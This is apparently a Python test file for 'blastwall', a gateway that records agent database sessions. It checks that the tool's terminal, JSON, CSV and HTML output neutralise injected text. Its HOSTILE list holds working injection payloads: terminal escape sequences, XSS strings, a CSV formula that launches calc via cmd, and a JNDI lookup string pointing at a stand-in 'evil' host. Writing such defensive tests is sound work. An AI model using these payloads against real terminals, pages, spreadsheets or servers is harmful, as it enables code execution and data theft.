"""Everything a person looks at, or opens in another program, holds what agents and targets said, and none of it acts.

Whatever stands in a recording, a request or a session: on the terminal there is printable text and our own colours, in
JSON only ASCII, in CSV no cell that a spreadsheet computes, in HTML our own elements.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import struct
import time
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from blastwall.approvals import binding
from blastwall.local.approvals import LocalApprovals
from blastwall.local.clock import SystemClock
from blastwall.local.recorder import LocalRecorder
from blastwall.local.sessions import LocalSessions
from blastwall.local.store import Store
from blastwall.model import (
    ApprovalRequest,
    Denial,
    DenialCode,
    Effect,
    Facts,
    Masked,
    ObjectRef,
    Parameter,
    Permit,
    Principal,
    Risk,
    Session,
    Statement,
    Target,
)
from cli.__main__ import run

HOSTILE = [
    "\x1b]52;c;ZXZpbA==\x07",  # the clipboard
    "\x1b]0;root@prod\x07",  # the title
    "\x1b[?1049h",  # the alternate screen
    "\x1b[2J\x1b[1;1H",  # the cursor
    "\x1b[8m\x1b[31m",
    "\x1bP+q544e\x1b\\",  # a question that the terminal answers
    "\x1b[6n\x1b[c",
    "\x1b]8;;http://evil\x07link\x1b]8;;\x07",
    "\x9b31m\x90\x9d0;t\x9c",  # C1
    "\rOVERWRITTEN",
    "a\x08\x08b\x7f",
    "\u202egnp.exe\u2066\u2069",
    "\u200b\ufeff\u2028\u2029\U000e0041",
    "\udcff\udc9b",  # bytes that are no UTF-8
    "[bold red]markup[/] :smile:",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "</pre></table></body><iframe src=//evil>",
    '"><svg/onload=alert(1)>',
    '=HYPERLINK("http://evil","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    ";=1+1,=2+2",
    "W" * 3_000,
    "\U0001f468\u200d" * 300,
    "Z" + "\u0300" * 200,
    "\u6f22" * 700,
    "\x00",
    "${jndi:ldap://evil}",
]
SGR = re.compile(r"\x1b\[[0-9;]*m")
hostile = st.sampled_from(HOSTILE) | st.text(st.characters(), max_size=40)
pieces = st.lists(hostile, min_size=1, max_size=3).map("".join)


def frame(kind, body):
    return kind + struct.pack(">I", len(body) + 4) + body


def rows(name, *cells):
    plain = name.replace("\0", "").encode("utf-8", "surrogatepass")
    answer = frame(b"T", b"\0\1" + plain + b"\0" + struct.pack(">IhIhih", 0, 0, 25, -1, -1, 0))
    for cell in cells:
        raw = cell.encode("utf-8", "surrogatepass") + b"\xff\xc0\x1b"
        answer += frame(b"D", b"\0\1" + struct.pack(">I", len(raw)) + raw)
    return answer + frame(b"C", plain + b"\0")


def notice(text):
    said = text.replace("\0", "").encode("utf-8", "surrogatepass")
    return frame(b"N", b"S" + said + b"\0C" + said[:5] + b"\0M" + said + b"\0D" + said + b"\0H" + said + b"\0\0")


def fill(state, texts):
    """A recording, a request for approval and a session that say these things wherever they can."""
    a, b, c, d = texts
    recorder = LocalRecorder(state, SystemClock())
    principal = Principal(
        f"iss{a}", f"sub{b}", f"agent{c}", frozenset({f"group{d}"}), f"person{a}", "t", 0.0, time.time() + 3600
    )
    target = Target("shop", "postgres", f"host{b}", 5432, labels={f"label{c}": d})
    # A session's id is the gateway's own, and the chain seals it as UTF-8.
    session = Session(f"s{d.encode('utf-8', 'replace').decode()}", principal, "shop", 0.0, 1.0, break_glass=b)
    recording = recorder.open(session, target, f"c{a}", {"client_address": b, f"extra{c}": d})
    facts = Facts(Effect.READ, a, (ObjectRef(b, c, d),), frozenset(), True, d, "f" * 16)
    bound = (Parameter(c.encode("utf-8", "surrogatepass")), Parameter(b"\xff\x1b[31m", binary=True), Parameter(None))
    recording.intent(Statement(b, parameters=bound, number=1, name=a), facts, Permit(c, (d,), Risk(3, ((a, 3),))))
    recording.relayed(Masked(rows(a, b, c) + notice(d), 1, 2, b[:40]))
    recording.intent(Statement(c, number=2), facts, Denial(DenialCode.POLICY, a, b, (c,), Risk(0), d))
    recording.relayed(Masked(b"\x1b[31m not frames", 2, 0, "", error=a[:20]))
    recording.event(b, {c: d, "reason": a, "by": [b], "note": c})
    recording.close(d)
    recorder.close()

    # A token's names are Unicode (identity/claims.py), and the store holds no other; statements may be anything.
    plain = {name: text.encode("utf-8", "replace").decode() for name, text in zip("abcd", texts, strict=True)}
    principal = Principal(
        f"iss{plain['a']}",
        f"sub{plain['b']}",
        f"agent{plain['c']}",
        frozenset({plain["d"]}),
        plain["a"],
        "t",
        0.0,
        time.time() + 3600,
    )

    async def shared():
        store = Store(state / "blastwall.db")
        try:
            await LocalSessions(store, SystemClock()).open(principal, target)
            statement = Statement(b, parameters=bound, surroundings=c)
            request = ApprovalRequest(
                id="ap-1",
                binding=binding(
                    principal=principal,
                    session="s-1",
                    target=f"shop{plain['d']}",
                    statement=statement,
                    policy_version=plain["c"],
                ),
                session="s-1",
                principal=principal,
                target=f"shop{plain['d']}",
                statement=statement,
                facts=facts,
                risk=Risk(3, ((a, 3),)),
                approvers=(d,),
                policy_version=plain["c"],
                requested_at=time.time(),
                expires_at=time.time() + 60,
            )
            await LocalApprovals(store, SystemClock()).request(request)
        finally:
            store.close()

    asyncio.run(shared())
    return recording.id


class Elements(HTMLParser):
    OURS = frozenset(
        ("html", "head", "meta", "title", "style", "body", "h1", "p", "b", "span", "pre", "table", "tr", "th", "td")
    )

    def __init__(self):
        super().__init__()
        self.inside = ""

    def handle_starttag(self, tag, attributes):
        assert tag in self.OURS, tag
        allowed = {"lang", "charset", "http-equiv", "content"} if tag in ("html", "meta") else {"class"}
        assert {name for name, _ in attributes} <= allowed, attributes

    def handle_comment(self, data):
        raise AssertionError(data)


def check_terminal(text):
    rest = SGR.sub("", text)
    assert all(character.isprintable() or character == "\n" for character in rest), ascii(rest)


def check_json(text):
    """An object a line, whatever the verb."""
    assert text.isascii()
    assert all(isinstance(json.loads(line), dict) for line in text.splitlines())
    check_terminal(text)


def check_csv(text):
    for separator in (",", ";"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), cell
                assert cell.isprintable()


def check_html(text):
    Elements().feed(text)
    assert all(character.isprintable() or character == "\n" for character in text)


def check_cast(text):
    for line in text.splitlines()[1:]:
        check_terminal(json.loads(line)[2].replace("\r\n", "\n"))
    assert text.isascii()
    check_terminal(text)


SQL = "SELECT time_dt, message, query_info.query_string, actor.user.name, CAST(unmapped AS VARCHAR) FROM audit_events"
LOOKS = [
    (check_terminal, ("recordings", "ls", "--all")),
    (check_terminal, ("recordings", "play", "{id}", "--no-wait")),
    (check_terminal, ("recordings", "follow", "{id}")),
    (check_terminal, ("recordings", "verify", "--all")),
    (check_json, ("recordings", "ls", "--format", "json")),
    (check_json, ("recordings", "play", "{id}", "--format", "json")),
    (check_json, ("recordings", "export", "{id}", "--format", "json")),
    (check_csv, ("recordings", "export", "{id}", "--format", "csv")),
    (check_html, ("recordings", "export", "{id}", "--format", "html")),
    (check_cast, ("recordings", "export", "{id}")),
    (check_terminal, ("audit", "ls")),
    (check_json, ("audit", "ls", "--format", "json")),
    (check_terminal, ("audit", "query", SQL)),
    (check_json, ("audit", "query", SQL, "--format", "json")),
    (check_csv, ("audit", "query", SQL, "--format", "csv")),
    (check_terminal, ("approvals", "ls", "--all")),
    (check_terminal, ("approvals", "show", "ap-1")),
    (check_json, ("approvals", "show", "ap-1", "--format", "json")),
    (check_terminal, ("agents", "ls")),
    (check_json, ("agents", "ls", "--format", "json")),
    (check_terminal, ("sessions", "ls", "--all")),
    (check_json, ("sessions", "ls", "--all", "--format", "json")),
]


def look(capsys, id):
    for check, words in LOOKS:
        code = run([word.format(id=id) if "{id}" in word else word for word in words])
        shown = capsys.readouterr()
        assert code in (0, 1), (words, shown.err)
        assert shown.out, words
        check(shown.out)
        check_terminal(shown.err)
        if words[:2] == ("recordings", "play") and check is check_terminal:
            assert SGR.search(shown.out), "without colours nothing was proven about escapes"


@pytest.fixture
def colours(monkeypatch):
    monkeypatch.setenv("FORCE_COLOR", "1")  # as on a terminal: rich then writes its escapes
    monkeypatch.setenv("COLUMNS", "100")
    monkeypatch.delenv("BLASTWALL_TOKEN", raising=False)
    monkeypatch.delenv("NO_COLOR", raising=False)


@pytest.mark.parametrize("start", range(0, len(HOSTILE), 8))
def test_known_attacks_do_nothing(tmp_path, monkeypatch, capsys, colours, start):
    monkeypatch.setenv("BLASTWALL_STATE", str(tmp_path))
    some = (HOSTILE * 2)[start : start + 8]
    id = fill(tmp_path, ["".join(some[n::4]) for n in range(4)])
    look(capsys, id)


@settings(
    max_examples=4,
    deadline=None,
    phases=(Phase.explicit, Phase.generate),
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(st.tuples(pieces, pieces, pieces, pieces))
def test_nothing_that_can_be_recorded_acts(tmp_path_factory, monkeypatch, capsys, colours, texts):
    state = tmp_path_factory.mktemp("state")
    monkeypatch.setenv("BLASTWALL_STATE", str(state))
    look(capsys, fill(state, texts))
